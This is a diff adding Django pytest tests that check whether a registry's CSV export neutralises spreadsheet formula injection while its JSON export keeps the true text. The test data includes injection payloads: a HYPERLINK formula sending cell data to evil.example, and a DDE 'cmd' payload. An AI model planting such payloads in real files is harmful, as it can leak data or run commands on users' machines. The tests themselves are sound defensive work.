@@ -6,6 +6,7 @@ import pytest
 from django.http import StreamingHttpResponse
 
 from registry.discovery import exports
+from registry.models import Writeup
 from tests.factories import (
     FunderInterestFactory,
     ProposalFactory,
@@ -75,3 +76,40 @@ def test_export_streams_in_chunks(client, data, monkeypatch):
     response = client.get("/export/topics.csv")
     chunks = list(response.streaming_content)
     assert len(chunks) == 1 + 6  # the header, then one chunk per row
+
+
+# --- Spreadsheet formula injection (OWASP "CSV Injection") --------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1",
+            "＠SUM(A1)"]
+
+
+@pytest.fixture
+def formulas():
+    # Stored straight (update()): the service strips surrounding whitespace from titles, and
+    # the export must hold up whatever is stored.
+    topic = TopicFactory(slug="formula-topic", title="Plain title")
+    for text in [*FORMULAS, "Ends with =1+1 - fine"]:
+        writeup = WriteupFactory(topic=topic, published=True)
+        Writeup.objects.filter(pk=writeup.pk).update(title=text)
+
+
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(client, formulas):
+    rows = list(csv.DictReader(io.StringIO(_body(client.get("/export/writeups.csv")))))
+
+    assert [row["title"] for row in rows] == [
+        *("'" + text for text in FORMULAS), "Ends with =1+1 - fine"]
+
+
+def test_export_json_keeps_the_true_text(client, formulas):
+    rows = json.loads(_body(client.get("/export/writeups.json")))
+
+    assert [row["title"] for row in rows] == [*FORMULAS, "Ends with =1+1 - fine"]
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1", "'=1"), ("plain", "plain"), ("", ""), (-3, -3), (None, None), ("a=1", "a=1"),
+])
+def test_spreadsheet_safe_quotes_formula_starts_only(value, cell):
+    assert exports.spreadsheet_safe(value) == cell
